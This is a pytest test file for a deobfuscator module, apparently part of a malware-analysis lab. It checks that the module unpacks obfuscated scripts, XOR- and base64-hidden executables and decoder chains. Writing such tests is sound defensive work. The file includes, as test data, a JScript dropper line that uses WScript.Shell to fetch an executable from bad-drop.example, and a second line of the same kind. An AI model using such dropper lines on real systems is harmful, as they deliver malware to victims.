"""The built deobfuscator: scripts hidden in every way that `disguised` knows, layers and files given out, chains of
decoders, hidden programs, and how long it takes.
"""

from __future__ import annotations

import base64
import hashlib
import random
import zlib
from collections.abc import Callable
from typing import Any

import disguised
import msgspec
import pytest
from harness import Guest, Refused

from athena_lab.report.deobfuscation import DeobfuscationFacts

Guests = Callable[[str], Guest]
STDIN_ONLY = {"wasi:cli/stdin@0.2.12", "wasi:io/error@0.2.12", "wasi:io/streams@0.2.12"}
TELLING = {"medium", "high", "critical"}
HIDDEN = {
    "ps1": disguised.powershell(random.Random(1)),
    "vbs": disguised.visual_basic(),
    "bat": disguised.batch(),
    "py": disguised.python(),
    "js": disguised.javascript(),
    "html": disguised.html(),
}
"""Each technique's script, under the ending of its language's files."""


@pytest.fixture
def module(guest: Guests) -> Guest:
    return guest("deobfuscator")


def analyze(module: Guest, sample: bytes, name: str = "") -> tuple[DeobfuscationFacts, dict[str, str]]:
    """The facts, and the severity of each finding."""
    output = module.call("analyze", sample, name)
    facts = msgspec.json.decode(output.data, type=DeobfuscationFacts)
    return facts, {finding.id: finding.severity for finding in output.findings}


def contents(module: Guest, sample: bytes, name: str = "") -> list[bytes]:
    facts, _ = analyze(module, sample, name)
    return [content(module, sample, layer.index, name) for layer in facts.layers]


def content(module: Guest, sample: bytes, index: int, name: str = "", **part: int) -> bytes:
    answer = msgspec.json.decode(module.call("layer", sample, name, index=index, **part).data)
    return base64.b64decode(answer["content"])


def decode(module: Guest, data: bytes, *steps: tuple[str, dict[str, Any]]) -> bytes:
    chain = [{"name": name, "args": args} for name, args in steps]
    answer = msgspec.json.decode(module.call("decode", data=data.hex(), steps=chain).data)
    done = base64.b64decode(answer["content"])
    assert (answer["size"], answer["sha256"]) == (len(done), hashlib.sha256(done).hexdigest())
    return done


def test_it_describes_itself_and_imports_stdin_alone(module: Guest) -> None:
    description = module.describe()
    assert (description.name, description.slot) == ("deobfuscator", "deobfuscation")
    assert [function.name for function in description.functions] == ["analyze", "layer", "extract", "decode"]
    assert all(function.args["additionalProperties"] is False for function in description.functions)
    assert set(module.component.type.imports(module.engine)) == STDIN_ONLY


@pytest.mark.parametrize("ending", HIDDEN)
def test_what_is_hidden_is_shown(module: Guest, capsys: pytest.CaptureFixture[str], ending: str) -> None:
    """The whole address is in a layer; of scripts that cannot be told by their text, the name says what they are."""
    shown = {name: shows(module, f"{name}.{ending}", script.encode()) for name, script in HIDDEN[ending].items()}
    with capsys.disabled():
        print(f"\n{ending}: {sum(shown.values())} of {len(shown)} techniques undone: {', '.join(shown)}")
    assert [name for name, undone in shown.items() if not undone] == []


def shows(module: Guest, name: str, script: bytes) -> bool:
    address = disguised.ADDRESS
    layers = contents(module, script, name)
    if name == "mid.vbs":
        # Two of three texts are shown beside the address.
        assert any(b'"WScript.Shell"' in layer and b'"shell"' in layer for layer in layers)
    facts, findings = analyze(module, script, name)
    if address.encode() not in script:
        assert any(indicator.value == address for layer in facts.layers for indicator in layer.indicators), name
        assert "hidden-addresses" in findings, name
    assert TELLING & set(findings.values()), name
    return any(address.encode() in layer for layer in layers)


def test_layers_are_a_tree_and_tell_where_they_are(module: Guest) -> None:
    script = disguised.html()["charcodes"].encode()
    facts, _ = analyze(module, script)
    assert facts.language == "html"
    assert [(layer.parent, layer.technique) for layer in facts.layers] == [
        (None, "script-element"), (0, "charcode"), (1, "eval"),
    ]  # fmt: skip
    first = facts.layers[0]
    assert script[first.offset : first.offset + first.length] == content(module, script, 0)
    assert facts.last == 2
    assert content(module, script, 2) == disguised.SCRIPT.encode()
    whole = content(module, script, 2)
    assert content(module, script, 2, offset=3, length=5) == whole[3:8]
    assert facts.layers[2].sha256 == hashlib.sha256(whole).hexdigest()
    for layer in facts.layers:
        assert layer.entropy_after > 3


def test_a_program_in_base64_is_given_out(module: Guest) -> None:
    sample = disguised.SAMPLES["encoded-program"]()
    facts, findings = analyze(module, sample)
    assert findings["decoded-executable"] == "high"
    (child,) = [child for child in facts.children if child.format == "pe"]
    answer = msgspec.json.decode(module.call("extract", sample, index=child.index).data)
    assert base64.b64decode(answer["content"]) == disguised.program()
    assert answer["child"]["sha256"] == child.sha256 == hashlib.sha256(disguised.program()).hexdigest()


@pytest.mark.parametrize("key", [b"\x5a", b"ab", b"key!"])
def test_a_program_under_a_key_is_found_in_any_bytes(module: Guest, key: bytes) -> None:
    program = disguised.program()
    hidden = bytes(byte ^ key[at % len(key)] for at, byte in enumerate(program))
    sample = random.Random(3).randbytes(5_000) + hidden + random.Random(4).randbytes(3_000)
    facts, findings = analyze(module, sample)
    (layer,) = facts.layers
    assert (layer.technique, layer.offset, layer.key) == ("xor", 5_000, key.hex())
    assert content(module, sample, 0) == program
    assert findings == {"decoded-executable": "high"}


def test_text_under_a_repeating_key_in_base64_is_read(module: Guest) -> None:
    plain = (disguised.PYTHON * 8).encode()
    hidden = bytes(byte ^ b"a longer key"[at % 12] for at, byte in enumerate(plain))
    script = f"var data = '{base64.b64encode(hidden).decode()}'; function run(x) {{ return x; }} run(data);".encode()
    assert plain in contents(module, script, "a.js")


DROPPER = b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://bad-drop.example/a.exe', 0);"


def hidden_in(module: Guest, sample: bytes, name: str = "a.txt") -> list[tuple[str, bytes]]:
    """The children: their names, and what is in them."""
    facts = msgspec.json.decode(module.call("analyze", sample, name).data, type=DeobfuscationFacts)
    taken = (module.call("extract", sample, name, index=child.index).data for child in facts.children)
    parts = [base64.b64decode(msgspec.json.decode(data)["content"]) for data in taken]
    return [(child.name, part) for child, part in zip(facts.children, parts, strict=True)]


@pytest.mark.parametrize(
    "hide",
    [
        base64.b64encode,
        lambda data: base64.b64encode(zlib.compress(data)[2:-4]),
        lambda data: data.hex().encode(),
        lambda data: bytes(byte ^ 0x5A for byte in data * 2),
        lambda data: base64.b64encode(bytes(byte ^ 0x5A for byte in data * 4)),
    ],
)
def test_a_script_that_runs_a_command_is_taken_out(module: Guest, hide: Callable[[bytes], bytes]) -> None:
    assert any(name.endswith(".js") and DROPPER in part for name, part in hidden_in(module, hide(DROPPER)))


def test_what_stands_behind_encoded_lines_is_not_taken_for_one(module: Guest) -> None:
    script = b"new ActiveXObject('WScript.Shell').Run('cmd /c http://b.example/a')"
    encoded = base64.b64encode(script)
    sample = b"@echo off\r\n(echo " + encoded + b"\r\necho -----END CERTIFICATE-----)>a\r\n"
    assert script in [part for _, part in hidden_in(module, sample, "a.bat")]


def test_chains_of_steps_are_run(module: Guest) -> None:
    data = base64.b64encode(zlib.compress(b"hello, world"))[::-1]
    assert decode(module, data, ("reverse", {}), ("base64", {}), ("zlib", {})) == b"hello, world"
    alphabet = "ZYXABCDEFGHIJKLMNOPQRSTUVWzyxabcdefghijklmnopqrstuvw0123456789+/"
    standard = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    custom = base64.b64encode(b"custom").translate(bytes.maketrans(standard.encode(), alphabet.encode()))
    assert decode(module, custom, ("base64", {"alphabet": alphabet})) == b"custom"
    assert decode(module, bytes.fromhex("bbf316e8d940af0ad3"), ("rc4", {"key": "text:Key"})) == b"Plaintext"
    sample = b"....aGVsbG8=...."
    answer = module.call("decode", sample, steps=[{"name": "base64"}], offset=4, length=8)
    assert msgspec.json.decode(answer.data)["text"] == "hello"
    for steps in ([], [{"name": "none"}], [{"name": "xor"}], [{"name": "gzip"}]):
        with pytest.raises(Refused):
            module.call("decode", data="text:x", steps=steps)


@pytest.mark.parametrize("function", ["layer", "extract"])
def test_what_is_not_there_is_refused(module: Guest, function: str) -> None:
    with pytest.raises(Refused):
        module.call(function, b"nothing", index=0)


def test_a_wrong_guess_replaces_nothing(module: Guest) -> None:
    """Texts that look encoded and are not, and values that only look constant."""
    scripts = {
        "words.js": "var AbstractDocumentListenerFactory = 'createElementNamespaceImplementation';",
        "effects.js": (
            "var n = 0; function id() { n = n + 1; return 'id' + n; }"
            "document.title = id() + id() + id() + id() + id(); eval('1');"
        ),
        "changed.js": (
            "var a = ['w' + 'in', 'do' + 'ws', 'ab' + 'cd', 'ef' + 'gh']; function f() { a.reverse(); } f(); g(a[0] + a[1]);"
        ),
        "shadow.js": "var s = 'out' + 'er'; function f(s) { return s + 'in' + 'ner' + 'mo' + 'st' + 'le' + 'vel'; }",
    }
    for name, script in scripts.items():
        for layer in contents(module, script.encode(), name):
            assert b"id1" not in layer
            assert b'g("window' not in layer
            assert b"outerinner" not in layer
    facts, findings = analyze(module, scripts["words.js"].encode(), "words.js")
    assert (facts.layers, findings) == ((), {})


def test_bytes_in_which_nothing_is_hidden_cost_little(module: Guest) -> None:
    sample = random.Random(5).randbytes(600_000) + bytes(400_000)
    facts, findings = analyze(module, sample)
    assert (facts.layers, findings) == ((), {})
    assert facts.used.steps <= 2 * len(sample)
